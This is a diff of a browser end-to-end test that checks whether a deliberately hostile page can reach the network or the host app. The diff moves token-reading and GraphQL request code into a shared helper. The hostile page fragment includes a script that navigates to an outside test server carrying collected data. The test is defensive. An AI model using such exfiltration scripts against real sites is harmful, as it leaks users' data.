@@ -1,6 +1,6 @@
 import { createServer } from "node:http";
 import { once } from "node:events";
-import { expect, signUp, test } from "./product.ts";
+import { expect, requests, signUp, test } from "./product.ts";
 
 /** Everything a hostile page can think of to get something out, or to reach the app around it. */
 const hostile = (address: string) => `<!doctype html><html><head>
@@ -29,7 +29,7 @@ document.getElementById("out").textContent = "tried " + said.join(" ");
 const leave = () => { location.href = "${address}/navigate?" + encodeURIComponent(said.join()); };
 </script><button onclick="leave()">Leave</button></body></html>`;
 
-test("a hostile page reaches neither the network nor the app", async ({ page, context, product }) => {
+test("a hostile page reaches neither the network nor the app", async ({ page, context }) => {
   const reached: string[] = [];
   const outside = createServer((request, response) => {
     reached.push(request.url ?? "");
@@ -42,19 +42,7 @@ test("a hostile page reaches neither the network nor the app", async ({ page, co
 
   await signUp(page);
   // The page arrives as a person's own code would: through the API.
-  const { authorization, headers } = await page.evaluate(() => {
-    const session = Object.values(localStorage).find((value) => value.includes("access_token")) ?? "{}";
-    const { access_token: token } = JSON.parse(session) as { access_token: string };
-    return { authorization: `Bearer ${token}`, headers: { "content-type": "application/json" } };
-  });
-  const graphql = async <Data>(query: string, input: object): Promise<Data> => {
-    const answer = await context.request.post(`${product.url}/graphql`, {
-      headers: { ...headers, authorization },
-      data: { query, variables: { input } },
-    });
-    const { data } = (await answer.json()) as { data: Data };
-    return data;
-  };
+  const graphql = await requests(page);
   const { createProject } = await graphql<{ createProject: { project: { id: string } } }>(
     "mutation ($input: CreateProjectInput!) { createProject(input: $input) { project { id } } }",
     { name: "Hostile" },
